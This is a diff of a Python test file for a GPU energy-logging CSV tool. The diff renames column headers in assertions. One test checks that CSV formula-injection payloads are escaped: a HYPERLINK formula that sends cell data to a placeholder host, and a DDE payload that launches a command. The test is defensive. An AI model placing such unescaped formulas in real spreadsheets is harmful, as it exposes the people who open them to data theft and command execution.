@@ -422,9 +422,9 @@ def test_smi_not_supported_one_hour_log(run, tmp_path):
     assert "  = note: the same in 3,599 more rows: 4, 6, 8, 10, 12 and 3,594 more\n" in err
     rows = list(csv.DictReader(out.open(newline="")))
     # GPU 0: 300 W at every one of 3,600 samples 1 s apart, 14:00:00 to 14:59:59: 3,599 s x 300 W
-    assert float(rows[0]["runtime [s]"]) == 3599.0
+    assert float(rows[0]["window_duration [s]"]) == 3599.0
     assert float(rows[0]["energy [J]"]) == pytest.approx(3599 * 300.0, rel=1e-9)
-    assert rows[1]["energy [J]"] == "NA" and rows[1]["memory [MiB]"] == "350.0"
+    assert rows[1]["energy [J]"] == "NA" and rows[1]["memory_global_vram [MiB]"] == "350.0"
 
 
 def test_csv_formula_injection_through_ingest(run, tmp_path):
@@ -436,7 +436,7 @@ def test_csv_formula_injection_through_ingest(run, tmp_path):
     row = next(csv.DictReader(out.open(newline="")))
     assert row["model"] == "'" + '=HYPERLINK("http://example.invalid/?d="&A1,"open")'
     assert row["hardware"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-    assert row["n_gpus"] == "1" and row["runtime [s]"] == "10.0"          # numbers stay numbers
+    assert row["n_gpus"] == "1" and row["run_duration [s]"] == "10.0"          # numbers stay numbers
     # perfdsl reads its own CSV back to the original text
     code, _, err = run("ingest", str(out), "-o", str(tmp_path / "again.jsonl"))
     line = json.loads((tmp_path / "again.jsonl").read_text().splitlines()[0])
